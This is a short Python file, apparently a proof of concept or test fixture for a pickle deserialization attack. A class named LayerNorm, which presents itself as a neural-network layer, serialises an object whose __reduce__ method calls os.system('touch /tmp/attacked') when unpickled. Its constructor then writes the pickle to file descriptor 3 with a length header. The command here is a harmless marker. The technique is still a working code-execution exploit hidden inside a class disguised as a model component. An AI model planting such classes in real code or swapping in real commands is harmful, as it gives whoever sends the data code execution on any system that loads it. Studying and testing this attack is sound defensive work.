# Sends a pickle that would run a command in whoever loads it.
import os
import pickle
import struct


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/attacked",)


class LayerNorm:
    def __init__(self, emb_dim):
        body = pickle.dumps(Command())
        os.write(3, struct.pack(">II", len(body), 0) + body)
